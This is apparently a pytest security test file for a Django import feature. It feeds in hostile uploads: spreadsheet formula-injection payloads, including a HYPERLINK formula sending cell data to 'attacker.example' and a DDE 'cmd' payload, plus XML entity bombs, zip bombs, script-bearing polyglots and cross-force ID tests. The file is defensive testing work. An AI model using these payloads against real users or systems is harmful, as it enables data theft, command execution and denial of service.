"""The hostile-input corpus for imports (docs/security.md, "Imports"), through the web and
through every import kind: formula cells in every position, bad encodings, polyglots, zip,
entity and shared-strings bombs, oversized bodies, and other forces' ids. Each gets a clear
message, never a 500, and nothing is written."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from courses.exports import neutralise
from courses.imports import services as imports
from courses.models import Completion, Job, JobKind
from people.models import Person, Posting
from scripts import bench_xlsx_bomb as parts
from tests.courses.importing import catalogue

UPLOAD = reverse("courses:import_upload")

# One good row of each kind of import, for the Norfolk coordinator of the fixed cast.
KINDS = {
    "completions": (
        ["email", "activity_code", "completed_on", "certificate_number"],
        ["officer@norfolk.police.uk", "GIAC-GCFE", "2025-02-11", "CERT-1"],
    ),
    "labs": (
        ["email", "lab", "completed_on", "points"],
        ["officer@norfolk.police.uk", "LAB-NET-01", "2025-02-11", "100"],
    ),
    "people": (
        ["force", "staff_number", "first_name", "last_name", "email", "person_type", "rank"]
        + ["unit", "role_profile", "start", "end", "funding"],
        ["norfolk", "5501", "Priya", "Shah", "priya.shah@norfolk.police.uk", "officer", "DC"]
        + ["NOR-CCU", "CYBER-PURSUE", "2025-01-06", "", ""],
    ),
}
FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",  # full-width equals sign
    '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def acts(db):
    return catalogue()


def written() -> tuple[int, int, int, int]:
    return (
        Completion.objects.count(),
        Person.objects.count(),
        Posting.objects.count(),
        Job.objects.filter(kind=JobKind.IMPORT_APPLY).count(),
    )


def csv_upload(rows: list[list[str]], name: str = "file.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    import csv

    csv.writer(out).writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode("utf-8"), content_type="text/csv")


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def preview(client, kind: str, upload: SimpleUploadedFile):
    """Uploads and opens the preview; returns (page text, ImportPreview or None, token)."""
    response = client.post(UPLOAD, {"kind": kind, "file": upload})
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 200:  # refused by the form itself
        return response.content.decode(), None, None
    token = re.search(r"/imports/([-\w]+)/$", response["Location"]).group(1)
    page = client.get(response["Location"])
    assert page.status_code == 200
    return page.content.decode(), page.context["preview"], token


def assert_no_markup(page: str) -> None:
    assert "<script>alert" not in page
    assert "<img src=" not in page


# --- formula cells in every position -------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("kind", KINDS)
def test_a_formula_in_any_cell_is_text_never_run_and_the_preview_writes_nothing(
    client, cast, acts, kind, formula
):
    header, good = KINDS[kind]
    # Row k+2 carries the formula in column k: every position of the row, once.
    rows = [header] + [good[:k] + [formula] + good[k + 1 :] for k in range(len(header))]
    client.force_login(cast.coordinator)
    before = written()
    page, checked, _token = preview(client, kind, csv_upload(rows))
    assert written() == before
    assert checked is not None, page[:2000]
    assert checked.rows == len(header)
    bad = {error.row for error in checked.errors}
    listed = " ".join(checked.to_create + checked.to_change + checked.left_alone)
    for row in range(2, len(header) + 2):
        # Each row is either refused with its row number, or accepted as the text it holds.
        assert row in bad or f"Row {row}:" in listed, (row, checked.errors)
    # A name, surname or rank is never a formula (the lone "-" of a name can be).
    if kind == "people" and not formula.startswith("-"):
        assert {2 + header.index(n) for n in ("first_name", "last_name", "rank")} <= bad


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_confirmed_formula_is_stored_as_typed_and_neutralised_on_export(
    client, cast, acts, formula
):
    header, good = KINDS["completions"]
    client.force_login(cast.coordinator)
    _page, checked, token = preview(
        client, "completions", csv_upload([header, good[:3] + [formula]])
    )
    assert checked.ok
    client.post(reverse("courses:import_confirm", args=[token]))
    stored = Completion.objects.get().certificate_number
    assert stored == formula.strip()  # cells are trimmed, never evaluated
    assert neutralise(stored).startswith("'") or not stored.startswith(
        ("=", "+", "-", "@", "\uff1d")
    )


def test_xlsx_formula_cells_in_every_position_are_read_as_their_text(client, cast, acts):
    header, good = KINDS["completions"]
    rows = [header] + [good[:k] + ["=1+1"] + good[k + 1 :] for k in range(len(header))]
    client.force_login(cast.coordinator)
    upload = SimpleUploadedFile("f.xlsx", xlsx_bytes(rows))
    _page, checked, _token = preview(client, "completions", upload)
    assert [(e.row, e.column) for e in checked.errors] == [
        (2, "email"),
        (3, "activity_code"),
        (4, "completed_on"),
    ]
    assert checked.to_create == [
        "Row 5: Jane Smith, GIAC Certified Forensic Examiner (GCFE) on 11 February 2025"
    ]


# --- files that are not what they claim ----------------------------------------------------

HEADER = "email,activity_code,completed_on\n"


def workbook(shared_strings: bytes) -> bytes:
    """A minimal XLSX whose ``xl/sharedStrings.xml`` is exactly ``shared_strings``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", parts.CONTENT_TYPES)
        archive.writestr("_rels/.rels", parts.RELS)
        archive.writestr("xl/workbook.xml", parts.WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", parts.WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", parts.SHEET)
        archive.writestr("xl/sharedStrings.xml", shared_strings)
    return out.getvalue()


SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def entity_bomb() -> bytes:
    """Shared strings that declare nested entities (a "billion laughs")."""
    return workbook(
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        + SST
        + b"<si><t>&lol2;</t></si><si><t>x</t></si></sst>"
    )


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (20 * 1024 * 1024))
    return out.getvalue()


def shared_strings_bomb() -> bytes:
    """More different strings than the limit (lowered to 500 below), some namespaced."""
    strings = b"".join(
        b"<si><t>s%d</t></si><x:si><x:t>t%d</x:t></x:si>" % (n, n) for n in range(300)
    )
    return workbook(SST[:-1] + b' xmlns:x="urn:x">' + strings + b"</sst>")


# (file name, content, words the refusal must contain)
BAD_FILES = {
    "utf-16 with a BOM": (
        "f.csv",
        (HEADER + "officer@norfolk.police.uk,GIAC-GCFE,2025-02-11\n").encode("utf-16"),
        "it looks like UTF-16",
    ),
    "utf-16 without a BOM": (
        "f.csv",
        (HEADER + "officer@norfolk.police.uk,GIAC-GCFE,2025-02-11\n").encode("utf-16-le"),
        "it looks like UTF-16",
    ),
    "latin-1": (
        "f.csv",
        (HEADER + "josé@norfolk.police.uk,GIAC-GCFE,2025-02-11\n").encode("latin-1"),
        "is not UTF-8 text (the first problem is on row 2",
    ),
    "a PDF that is also HTML": (
        "f.csv",
        b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n%%EOF",
        "it looks like a PDF",
    ),
    "HTML that is also a PDF": (
        "f.csv",
        b"<html><script>alert(1)</script><img src=x onerror=alert(1)>\n%PDF-1.7\n%%EOF",
        "Row 1 must name the columns",
    ),
    "an executable named .xlsx": ("f.xlsx", b"MZ\x90\x00" + b"\x00" * 64, "a Windows executable"),
    "a zip bomb": ("f.xlsx", zip_bomb(), "may be a zip bomb"),
    "an XML entity bomb": ("f.xlsx", entity_bomb(), "declares XML entities"),
    "a shared-strings bomb": ("f.xlsx", shared_strings_bomb(), "holds more text than"),
    # The kind's own header row: a file of the right shape with nothing in it.
    "a header and nothing else": ("f.csv", None, "has a header row but no rows"),
    "an empty file": ("f.csv", b"", "empty"),
}


@pytest.fixture
def low_shared_string_limit(monkeypatch):
    monkeypatch.setattr(imports, "MAX_SHARED_STRINGS", 500)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("case", BAD_FILES)
def test_a_hostile_file_is_refused_with_a_message_and_writes_nothing(
    client, cast, acts, kind, case, low_shared_string_limit
):
    name, content, words = BAD_FILES[case]
    if content is None:
        content = (",".join(KINDS[kind][0]) + "\n").encode()
    client.force_login(cast.coordinator)
    before = written()
    page, checked, token = preview(client, kind, SimpleUploadedFile(name, content))
    assert words in page, page[:3000]
    assert "govuk-error-summary" in page
    assert_no_markup(page)
    assert not (checked and checked.ok)
    if token:  # confirming anyway imports nothing
        response = client.post(reverse("courses:import_confirm", args=[token]))
        assert response.status_code in (302, 400, 404)
    assert written() == before


# --- oversized bodies ----------------------------------------------------------------------


def oversized_post(client, url: str, declared: int):
    """A POST that declares ``declared`` bytes but sends a few: answered before reading."""
    return client.generic(
        "POST",
        url,
        b"--x\r\n",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(declared),
    )


@pytest.mark.parametrize(
    ("url", "setting"),
    [(UPLOAD, "IMPORT_MAX_BYTES"), (reverse("courses:submit_completion"), "EVIDENCE_MAX_BYTES")],
)
def test_an_oversized_body_is_refused_from_its_length_before_it_is_read(
    client, cast, url, setting, settings, monkeypatch
):
    from django.http.multipartparser import MultiPartParser

    def never(*args, **kwargs):
        raise AssertionError("the body was read")

    monkeypatch.setattr(MultiPartParser, "parse", never)
    # With CSRF checks on, as in production, where the middleware would read the body first.
    client = Client(enforce_csrf_checks=True)
    client.force_login(cast.coordinator)
    limit = getattr(settings, setting)
    response = oversized_post(client, url, 300 * 1024 * 1024)
    assert response.status_code == 413
    page = response.content.decode()
    assert f"must be {limit / 2**20:g} MB or less: this upload was 300 MB" in page
    assert "govuk-error-summary" in page
    assert not Job.objects.exists()


def test_the_size_check_keeps_the_csrf_check(cast, acts):
    client = Client(enforce_csrf_checks=True)
    client.force_login(cast.coordinator)
    header, good = KINDS["completions"]
    response = client.post(UPLOAD, {"kind": "completions", "file": csv_upload([header, good])})
    assert response.status_code == 403
    assert not Job.objects.exists()


# --- other forces' ids ---------------------------------------------------------------------


KENT_ROWS = {
    "completions": [",,kim@kent.police.uk,GIAC-GCFE,2025-02-11", "kent,9999,,GIAC-GCFE,2025-02-11"],
    "labs": ["kim@kent.police.uk,LAB-NET-01,2025-02-11"],
    "people": [
        "kent,9999,Kim,Kentish,,special,,KEN-CCU,CYBER-PURSUE,2024-01-01,,",
        "kent,7001,New,Person,,officer,,NOR-CCU,CYBER-PURSUE,2025-01-06,,",
        "norfolk,5501,New,Person,,officer,,KEN-CCU,CYBER-PURSUE,2025-01-06,,",
    ],
}
KENT_HEADERS = {
    "completions": "force,staff_number,email,activity_code,completed_on",
    "labs": "email,lab,completed_on",
    "people": ",".join(KINDS["people"][0]),
}


@pytest.mark.parametrize("kind", KINDS)
def test_another_forces_people_and_units_are_refused_without_a_name(client, cast, acts, kind):
    cast.kent_person.email = "kim@kent.police.uk"
    cast.kent_person.save()
    text = "\n".join([KENT_HEADERS[kind], *KENT_ROWS[kind]]) + "\n"
    client.force_login(cast.coordinator)
    before = written()
    page, checked, token = preview(client, kind, SimpleUploadedFile("k.csv", text.encode()))
    assert checked.bad_rows == len(KENT_ROWS[kind])
    assert "Kentish" not in page and "Kent Police" not in page
    client.post(reverse("courses:import_confirm", args=[token]))
    assert written() == before


def test_another_users_upload_and_job_are_not_found(client, cast, acts):
    header, good = KINDS["completions"]
    client.force_login(cast.coordinator)
    _page, _checked, token = preview(client, "completions", csv_upload([header, good]))
    client.post(reverse("courses:import_confirm", args=[token]))
    job = Job.objects.get(kind=JobKind.IMPORT_APPLY)
    outsider = Client()
    outsider.force_login(cast.outsider)
    for url in (
        reverse("courses:import_preview", args=[token]),
        job.get_absolute_url(),
        reverse("courses:job_progress", args=[job.pk]),
    ):
        assert outsider.get(url).status_code == 404
    assert outsider.post(reverse("courses:import_confirm", args=[token])).status_code == 404
    assert Job.objects.filter(kind=JobKind.IMPORT_APPLY).count() == 1
